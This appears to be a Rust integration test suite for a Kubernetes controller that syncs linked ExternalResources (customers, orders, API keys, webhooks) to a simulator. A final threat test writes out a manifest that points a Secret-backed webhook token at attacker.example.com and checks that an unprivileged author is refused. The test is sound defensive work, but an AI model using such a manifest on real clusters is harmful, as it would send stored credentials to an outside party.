//! ExternalResources that depend on each other, on a real control plane and
//! the simulator (whose `orders` point at `customers`, and which refuses to
//! delete a customer an order points at): order of creation on the watch
//! event, updates that follow the referenced object, deletion in the right
//! order, references that cannot leave the namespace or loop, and answer
//! fields that go to a Secret and nowhere else.
mod support;

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use support::fixtures::{Simulator, Tenant};
use support::tether::Controller;
use support::{ControlPlane, KubectlExt, assert_ok};
use tether_sim::SimHandle;

const TOKEN: &str = "tok-refs-demo";

/// An Adapter for the simulator's customers, orders, API keys, webhooks
/// and invoices.
fn shop_adapter(name: &str) -> Value {
    let crud = |collection: &str, type_: &str| {
        json!({
            "name": type_,
            "read": {"method": "GET", "path": format!("/v1/{collection}/\\(.id)")},
            "create": {"method": "POST", "path": format!("/v1/{collection}"), "body": ".properties + {externalName: .name}"},
            "update": {"method": "PATCH", "path": format!("/v1/{collection}/\\(.id)"), "body": ".properties"},
            "delete": {"method": "DELETE", "path": format!("/v1/{collection}/\\(.id)")}
        })
    };
    let mut api_key = crud("api-keys", "api-key");
    api_key["secretFields"] = json!(["secret"]);
    json!({
        "apiVersion": "tether.dev/v1alpha1", "kind": "Adapter", "metadata": {"name": name},
        "spec": {"rest": {"resourceTypes": [
            crud("customers", "customer"), crud("orders", "order"), api_key, crud("webhooks", "webhook"),
            crud("invoices", "invoice")
        ]}}
    })
}

/// A tenant with the shop Adapter and the TargetSystem `target` on `sim`.
fn shop<'a>(cp: &'a ControlPlane, prefix: &str, sim: &SimHandle) -> Tenant<'a> {
    Tenant::new(cp, prefix).adapter("shop", shop_adapter).target(sim, TOKEN)
}

fn resource(name: &str, type_: &str, spec: Value) -> Value {
    let mut full = json!({"targetRef": {"name": "target"}, "type": type_, "pollInterval": "5m"});
    if let (Some(full), Value::Object(extra)) = (full.as_object_mut(), spec) {
        full.extend(extra);
    }
    json!({"apiVersion": "tether.dev/v1alpha1", "kind": "ExternalResource", "metadata": {"name": name}, "spec": full})
}

fn customer(name: &str, email: &str) -> Value {
    resource(name, "customer", json!({"properties": {"email": email}}))
}

/// An order of the customer `customer`, carrying its id and email.
fn order(name: &str, customer: &str) -> Value {
    resource(
        name,
        "order",
        json!({
            "references": {"customer": {"name": customer}},
            "propertiesFrom": {"customerId": ".refs.customer.externalId", "shipTo": ".refs.customer.observed.email"},
            "properties": {"item": "compiler"}
        }),
    )
}

fn ready_reason(cp: &ControlPlane, ns: &str, name: &str) -> (String, String) {
    (
        cp.jsonpath(
            ns,
            &format!("xr/{name}"),
            "{.status.conditions[?(@.type==\"Ready\")].reason}",
        ),
        cp.jsonpath(
            ns,
            &format!("xr/{name}"),
            "{.status.conditions[?(@.type==\"Ready\")].message}",
        ),
    )
}

/// Polls `check` until it holds, or fails with `what` after `seconds`.
async fn eventually(what: &str, seconds: u64, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(seconds);
    while !check() {
        assert!(Instant::now() < deadline, "timed out waiting until {what}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn wait_reason(cp: &ControlPlane, ns: &str, name: &str, reason: &str, controller: &Controller) {
    cp.wait_for(
        ns,
        &format!("xr/{name}"),
        &format!("jsonpath={{.status.conditions[?(@.type==\"Ready\")].reason}}={reason}"),
        "60s",
        Some(controller),
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_child_applied_before_its_parent_waits_then_is_created_with_its_id_on_the_parents_watch_event() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-order", &sim).start();
    cp.apply_json(&ns, &order("first-order", "ada"));
    wait_reason(cp, &ns, "first-order", "WaitingForReference", &controller);
    let (_, message) = ready_reason(cp, &ns, "first-order");
    assert!(
        message.contains("customer (ExternalResource ada): not found"),
        "{message}"
    );
    assert_eq!(
        sim.stats().count("create", "orders"),
        0,
        "a waiting child calls nothing"
    );

    cp.apply_json(&ns, &customer("ada", "ada@example.com"));
    // Timestamps recorded here, 10 ms apart: when the customer appears at
    // the target (its Ready follows that answer) and when the order does.
    let (mut customer_seen, mut order_seen) = (None, None);
    let deadline = Instant::now() + Duration::from_secs(60);
    while order_seen.is_none() {
        assert!(Instant::now() < deadline, "the order was never created");
        if customer_seen.is_none() && !sim.objects("customers").is_empty() {
            customer_seen = Some(Instant::now());
        }
        if !sim.objects("orders").is_empty() {
            order_seen = Some(Instant::now());
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let gap = order_seen
        .zip(customer_seen)
        .map(|(o, c)| o.saturating_duration_since(c))
        .unwrap_or_default();
    eprintln!(
        "measurement: the order was created {} ms after the customer",
        gap.as_millis()
    );
    assert!(
        gap < Duration::from_secs(1),
        "the child must move on the parent's watch event, not its next poll: {gap:?}"
    );
    cp.wait_for(&ns, "xr/first-order", "condition=Ready", "30s", Some(&controller));
    let customers = sim.objects("customers");
    let orders = sim.objects("orders");
    assert_eq!(orders.len(), 1);
    assert_eq!(
        orders[0]["customerId"], customers[0]["id"],
        "created with the parent's id"
    );
    assert_eq!(orders[0]["shipTo"], "ada@example.com", "and its observed field");
    assert_eq!(sim.stats().refused, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reference_by_labels_waits_for_its_match_and_resolves_on_its_watch_event() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-selector", &sim).start();
    let mut by_label = order("first-order", "unused");
    by_label["spec"]["references"]["customer"] = json!({"selector": {"matchLabels": {"shop.example/role": "buyer"}}});
    cp.apply_json(&ns, &by_label);
    wait_reason(cp, &ns, "first-order", "WaitingForReference", &controller);
    let mut ada = customer("ada", "ada@example.com");
    ada["metadata"]["labels"] = json!({"shop.example/role": "buyer"});
    cp.apply_json(&ns, &ada);
    cp.wait_for(&ns, "xr/ada", "condition=Ready", "30s", Some(&controller));
    // The poll interval is 5 minutes: only the watch event can move it.
    eventually("the order is created for the labelled customer", 5, || {
        !sim.objects("orders").is_empty()
    })
    .await;
    assert_eq!(
        sim.objects("orders")[0]["customerId"],
        sim.objects("customers")[0]["id"]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_of_the_referenced_object_updates_the_child_at_its_target() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-update", &sim).start();
    cp.apply_json(&ns, &customer("ada", "ada@example.com"));
    cp.apply_json(&ns, &customer("bob", "bob@example.com"));
    cp.wait_all(&ns, "xr", "condition=Ready", "60s", Some(&controller));
    cp.apply_json(&ns, &order("first-order", "ada"));
    cp.wait_for(&ns, "xr/first-order", "condition=Ready", "60s", Some(&controller));

    // The parent's field changes: the child's desired state changes with it.
    cp.apply_json(&ns, &customer("ada", "ada@lovelace.example"));
    eventually("the order follows the customer's email", 10, || {
        sim.objects("orders").first().map(|o| o["shipTo"].clone()) == Some(json!("ada@lovelace.example"))
    })
    .await;
    // The id the child carries changes: it now points at another customer.
    let bob_id = cp.jsonpath(&ns, "xr/bob", "{.status.externalId}");
    cp.apply_json(&ns, &order("first-order", "bob"));
    eventually("the order carries the new customer's id", 10, || {
        sim.objects("orders").first().map(|o| o["customerId"].clone()) == Some(json!(bob_id))
    })
    .await;
    assert_eq!(
        sim.stats().count("create", "orders"),
        1,
        "updated in place, not recreated"
    );
    assert_eq!(sim.stats().refused, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleting_parent_and_child_at_once_deletes_the_child_first_and_no_call_is_refused() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-delete", &sim).start();
    // The parent first in the file: kubectl deletes in file order.
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [
        customer("ada", "ada@example.com"), order("first-order", "ada")
    ]});
    let file = cp.dir.join(format!("{ns}-shop.json"));
    std::fs::write(&file, list.to_string()).expect("manifest written");
    assert_ok(&cp.kubectl(&["apply", "-n", &ns, "-f", &file.to_string_lossy()]));
    cp.wait_all(&ns, "xr", "condition=Ready", "60s", Some(&controller));

    let deleted = cp.kubectl(&["delete", "-n", &ns, "-f", &file.to_string_lossy(), "--timeout=25s"]);
    assert!(
        deleted.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&deleted.stderr),
        controller.logs()
    );
    let stats = sim.stats();
    assert_eq!(stats.refused, 0, "no delete was refused by the target: {stats:?}");
    assert_eq!(stats.count("delete", "customers"), 1, "one delete of the customer");
    assert!(sim.objects("customers").is_empty() && sim.objects("orders").is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_referenced_object_holds_its_deletion_while_a_dependent_exists_and_says_which() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-hold", &sim).start();
    cp.apply_json(&ns, &customer("ada", "ada@example.com"));
    cp.apply_json(&ns, &order("first-order", "ada"));
    cp.wait_for(&ns, "xr/first-order", "condition=Ready", "60s", Some(&controller));

    assert_ok(&cp.kubectl(&["delete", "-n", &ns, "xr/ada", "--wait=false"]));
    cp.wait_for(
        &ns,
        "xr/ada",
        "jsonpath={.status.conditions[?(@.type==\"Synced\")].reason}=InUse",
        "30s",
        Some(&controller),
    );
    let message = cp.jsonpath(&ns, "xr/ada", "{.status.conditions[?(@.type==\"Synced\")].message}");
    assert!(message.contains("first-order"), "{message}");
    let events = cp.jsonpath(&ns, "events", "{range .items[*]}{.reason}:{.note}{.message} {end}");
    assert!(
        events.contains("WaitingForDependents:still referenced by first-order"),
        "{events}"
    );
    assert_eq!(sim.objects("customers").len(), 1, "still at the target");
    assert_eq!(sim.stats().count("delete", "customers"), 0, "not even tried");

    assert_ok(&cp.kubectl(&["delete", "-n", &ns, "xr/first-order", "--timeout=20s"]));
    cp.wait_for(&ns, "xr/ada", "delete", "20s", Some(&controller));
    assert!(sim.objects("customers").is_empty());
    assert_eq!(sim.stats().refused, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_orphaned_parent_goes_at_once_and_leaves_its_object() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-orphan", &sim).start();
    let mut ada = customer("ada", "ada@example.com");
    ada["spec"]["deletionPolicy"] = json!("Orphan");
    cp.apply_json(&ns, &ada);
    cp.apply_json(&ns, &order("first-order", "ada"));
    cp.wait_for(&ns, "xr/first-order", "condition=Ready", "60s", Some(&controller));
    assert_ok(&cp.kubectl(&["delete", "-n", &ns, "xr/ada", "--timeout=20s"]));
    assert_eq!(sim.objects("customers").len(), 1, "orphaned at the target");
    assert_eq!(sim.stats().refused, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reference_to_a_resource_of_another_target_system_carries_its_id_across() {
    let cp = ControlPlane::shared();
    let (crm, billing) = (Simulator::accepting(TOKEN).start(), Simulator::accepting(TOKEN).start());
    let (ns, controller) = shop(cp, "refs-cross-target", &crm).start();
    // A second system (another simulator, its own TargetSystem and Secret).
    let adapter = format!("shop-{ns}");
    cp.apply_json(
        &ns,
        &json!({"apiVersion": "tether.dev/v1alpha1", "kind": "TargetSystem", "metadata": {"name": "billing"},
                "spec": {"adapterRef": {"name": adapter}, "baseUrl": billing.base_url(),
                         "auth": {"bearer": {"tokenSecretRef": {"name": "target-token", "key": "token"}}}}}),
    );
    cp.apply_json(&ns, &customer("ada", "ada@example.com"));
    let mut invoice = resource(
        "ada-invoice",
        "invoice",
        json!({
            "references": {"customer": {"name": "ada"}},
            "propertiesFrom": {"crmCustomerId": ".refs.customer.externalId"},
            "properties": {"amount": 42}
        }),
    );
    invoice["spec"]["targetRef"]["name"] = json!("billing");
    cp.apply_json(&ns, &invoice);
    cp.wait_for(&ns, "xr/ada-invoice", "condition=Ready", "60s", Some(&controller));
    let customer_id = crm.objects("customers")[0]["id"].clone();
    assert_eq!(
        billing.objects("invoices")[0]["crmCustomerId"],
        customer_id,
        "the CRM's id, in billing"
    );
    assert!(crm.objects("invoices").is_empty() && billing.objects("customers").is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reference_to_another_namespace_is_refused_at_apply() {
    let cp = ControlPlane::shared();
    let ns = cp.namespace("refs-cross");
    let mut stealing = order("first-order", "ada");
    stealing["spec"]["references"]["customer"]["namespace"] = json!("other-tenant");
    let out = cp.apply_as("admin", &ns, &stealing.to_string());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "a namespace in a reference must be refused");
    assert!(
        stderr.contains("unknown field \"spec.references.customer.namespace\""),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reference_cycle_is_refused_with_a_condition_naming_it() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-cycle", &sim).start();
    let linked = |name: &str, other: &str| {
        resource(
            name,
            "customer",
            json!({"references": {"peer": {"name": other}}, "properties": {"email": format!("{name}@example.com")}}),
        )
    };
    cp.apply_json(&ns, &linked("a", "b"));
    cp.apply_json(&ns, &linked("b", "a"));
    wait_reason(cp, &ns, "a", "ReferenceCycle", &controller);
    wait_reason(cp, &ns, "b", "ReferenceCycle", &controller);
    let (_, message) = ready_reason(cp, &ns, "a");
    assert!(message.contains("a -> b -> a"), "{message}");
    assert_eq!(sim.stats().requests.values().sum::<u64>(), 0, "nothing was sent");
}

/// Every place a value must not reach, as text.
async fn everywhere(cp: &ControlPlane, ns: &str, controller: &Controller) -> String {
    let status = cp.kubectl(&["get", "-n", ns, "xr", "-o", "json"]);
    let events = cp.kubectl(&["get", "-n", ns, "events", "-o", "json"]);
    format!(
        "{}\n{}\n{}\n{}",
        String::from_utf8_lossy(&status.stdout),
        String::from_utf8_lossy(&events.stdout),
        controller.logs(),
        controller.metrics().await
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_field_written_to_a_secret_is_nowhere_else_and_goes_with_its_owner() {
    let cp = ControlPlane::shared();
    let sim = Simulator::accepting(TOKEN).start();
    let (ns, controller) = shop(cp, "refs-secret", &sim).start();
    cp.apply_json(
        &ns,
        &resource("ci-key", "api-key", json!({"properties": {"scope": "deploy"}})),
    );
    // A webhook that authenticates with that key: the value goes from the
    // Secret to the target, never through status.
    cp.apply_json(
        &ns,
        &resource(
            "ci-hook",
            "webhook",
            json!({
                "references": {"key": {"name": "ci-key"}},
                "secretProperties": {"token": {"secretKeyRef": {"name": "ci-key-secrets", "key": "secret"}}},
                "properties": {"url": "https://ci.example.com/hook"}
            }),
        ),
    );
    cp.wait_for(&ns, "xr/ci-hook", "condition=Ready", "60s", Some(&controller));
    let key = sim.objects("api-keys");
    let value = key[0]["secret"]
        .as_str()
        .expect("the target generated a secret")
        .to_owned();
    assert!(value.starts_with("sk_"));
    let stored = cp.jsonpath(&ns, "secret/ci-key-secrets", "{.data.secret}");
    let decoded = cp.kubectl(&[
        "get",
        "-n",
        &ns,
        "secret/ci-key-secrets",
        "-o",
        "go-template={{.data.secret | base64decode}}",
    ]);
    assert!(!stored.is_empty());
    assert_eq!(
        String::from_utf8_lossy(&decoded.stdout),
        value,
        "the Secret holds the answer's value"
    );
    assert_eq!(
        sim.objects("webhooks")[0]["token"],
        json!(value),
        "and the webhook got it"
    );
    let owner = cp.jsonpath(&ns, "secret/ci-key-secrets", "{.metadata.ownerReferences[0].uid}");
    assert_eq!(
        owner,
        cp.jsonpath(&ns, "xr/ci-key", "{.metadata.uid}"),
        "owned by its ExternalResource"
    );

    let seen = everywhere(cp, &ns, &controller).await;
    assert!(
        !seen.contains(&value),
        "the secret value leaked into status, Events, logs or metrics"
    );
    assert!(!seen.contains(&stored), "nor its base64 form");

    assert_ok(&cp.kubectl(&["delete", "-n", &ns, "xr/ci-hook", "xr/ci-key", "--timeout=30s"]));
    let gone = cp.kubectl(&["get", "-n", &ns, "secret/ci-key-secrets"]);
    assert!(!gone.status.success(), "the Secret goes with its owner");
    assert!(sim.objects("api-keys").is_empty());
}

/// `who` may write ExternalResources in `ns` but not read its Secrets.
fn grant_author(cp: &ControlPlane, ns: &str, who: &str) {
    let role = format!("xr-author-{who}");
    assert_ok(&cp.kubectl(&[
        "create",
        "role",
        &role,
        "-n",
        ns,
        "--verb=get,list,watch,create,update,patch",
        "--resource=externalresources.tether.dev",
    ]));
    assert_ok(&cp.kubectl(&[
        "create",
        "rolebinding",
        &role,
        "-n",
        ns,
        &format!("--role={role}"),
        &format!("--user={who}"),
    ]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn threat_a_secret_property_names_only_a_secret_its_author_can_read() {
    let cp = ControlPlane::shared();
    let ns = cp.namespace("refs-policy");
    grant_author(cp, &ns, "alice");
    let exfiltrate = resource(
        "exfil",
        "webhook",
        json!({"secretProperties": {"token": {"secretKeyRef": {"name": "target-token", "key": "token"}}},
               "properties": {"url": "https://attacker.example.com"}}),
    );
    let plain = resource(
        "plain",
        "webhook",
        json!({"properties": {"url": "https://ci.example.com"}}),
    );
    // Wait for the fresh namespace's RBAC: a plain ExternalResource passes.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let out = cp.kubectl_as(
            "alice",
            &["apply", "--dry-run=server", "-n", &ns, "-f", "-"],
            Some(&plain.to_string()),
        );
        if out.status.success() {
            break;
        }
        assert!(Instant::now() < deadline, "{}", String::from_utf8_lossy(&out.stderr));
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let out = cp.kubectl_as(
        "alice",
        &["apply", "--dry-run=server", "-n", &ns, "-f", "-"],
        Some(&exfiltrate.to_string()),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "alice cannot read target-token: refused");
    assert!(
        stderr.contains("may not get every Secret this object names (target-token)"),
        "{stderr}"
    );
    // The admin can read it: allowed.
    let admin = cp.kubectl_as(
        "admin",
        &["apply", "--dry-run=server", "-n", &ns, "-f", "-"],
        Some(&exfiltrate.to_string()),
    );
    assert!(admin.status.success(), "{}", String::from_utf8_lossy(&admin.stderr));
}
